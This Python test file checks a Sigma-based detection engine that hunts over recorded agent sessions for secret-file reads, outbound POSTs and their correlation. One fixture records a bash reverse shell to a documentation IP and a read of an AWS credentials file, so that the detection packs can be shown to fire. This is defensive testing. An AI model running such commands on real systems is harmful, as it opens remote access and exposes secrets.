from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Any

import pytest

from capsule.rules.detection.model import SigmaFile, joined
from capsule.rules.detection.packs import NAMES, load_pack
from capsule.rules.detection.sigma import parse_sigma
from capsule.rules.detection.sql import FUNCTIONS
from capsule.sessions.database import directory
from capsule.sessions.hunt import Hit, hunt
from capsule.sessions.ingest import Taken
from capsule.sessions.query import Reader, SlowError
from tests.sessions.recorded import denied, exec_, http, write

READ = """
title: A secret file was asked for
id: 8c0f1d7e-0000-4000-8000-000000000001
name: asked
level: medium
logsource: {product: capsule, category: file}
detection:
  it: {file.path|endswith: /.env}
  condition: it
---
title: Something was posted
id: 8c0f1d7e-0000-4000-8000-000000000002
name: posted
level: low
logsource: {product: capsule, category: http}
detection:
  it: {http.method: POST}
  condition: it
---
title: Asked for, then posted
id: 8c0f1d7e-0000-4000-8000-000000000003
level: critical
correlation:
  type: temporal_ordered
  rules: [asked, posted]
  timespan: 10m
  generate: true
"""


def rules() -> SigmaFile:
    return parse_sigma(READ, "rules.yml")


@pytest.fixture
def asked(taken: Callable[..., Taken]) -> Iterator[Callable[..., list[Hit]]]:
    taken(
        [
            exec_("r-1"),
            write("/w/.env", "read", "r-1"),
            http("a.example", "/up", "POST", "r-1"),
            write("/w/env", "read", "r-1"),
        ]
    )
    taken([http("a.example", "/up", "POST", "r-2"), denied("/x/.env", run="r-2")])
    with Reader.open(directory()) as reader:
        reader.add(FUNCTIONS)

        def ask(sql: str, values: Sequence[Any]) -> Iterable[tuple[Any, ...]]:
            return reader.each(sql, values)

        def look(found: SigmaFile, **more: Any) -> list[Hit]:
            return list(hunt(ask, found, **more))

        yield look


def test_rules_hold_for_past_events(asked: Callable[..., list[Hit]]) -> None:
    hits = [(hit.rule.title, hit.run, hit.seq) for hit in asked(rules())]
    assert sorted(hits) == [
        ("A secret file was asked for", "r-1", 2),
        ("A secret file was asked for", "r-2", 6),
        ("Asked for, then posted", "r-1", 3),
        ("Something was posted", "r-1", 3),
        ("Something was posted", "r-2", 5),
    ]


def test_a_correlation_names_its_events_and_keeps_runs_apart(asked: Callable[..., list[Hit]]) -> None:
    (hit,) = [hit for hit in asked(rules()) if hit.rule.level == "critical"]
    assert hit.events == ("r-1/2", "e-/up")
    assert hit.count == 2


def test_it_looks_only_where_it_is_told(asked: Callable[..., list[Hit]]) -> None:
    assert asked(rules(), begin="2999") == []
    only = [(hit.run, hit.seq) for hit in asked(rules(), run=("r-2", 1 << 40, (1 << 41) - 1))]
    assert sorted(only) == [("r-2", 5), ("r-2", 6)]
    assert asked(rules(), run=("r-2", (1 << 40) + 6, (1 << 40) + 6))[0].seq == 6


def test_the_packs_run_over_every_kind_of_entry(taken: Callable[..., Taken]) -> None:
    from tests.sessions.recorded import session

    taken(
        [
            *session("r-1"),
            exec_("r-1", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1", program="/bin/bash"),
            write("/home/u/.aws/credentials", "read"),
        ]
    )
    with Reader.open(directory()) as reader:
        reader.add(FUNCTIONS)
        for name in NAMES:
            pack = joined(parse_sigma(text, file) for file, text in load_pack(name) or ())
            titles = {hit.rule.title for hit in hunt(reader.each, pack)}
    assert "A shell was connected to the network" in titles
    assert "A file of credentials was read" in titles
    assert len(titles) < 8, "most of them are silent"


def test_a_hunt_has_a_deadline(asked: Callable[..., list[Hit]]) -> None:
    with Reader.open(directory()) as reader:
        reader.add(FUNCTIONS)
        endless = (
            "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c WHERE x < 0"
        )
        with pytest.raises(SlowError):
            list(reader.each(endless, until=0.0))
        assert reader.all("SELECT 1") == [(1,)]
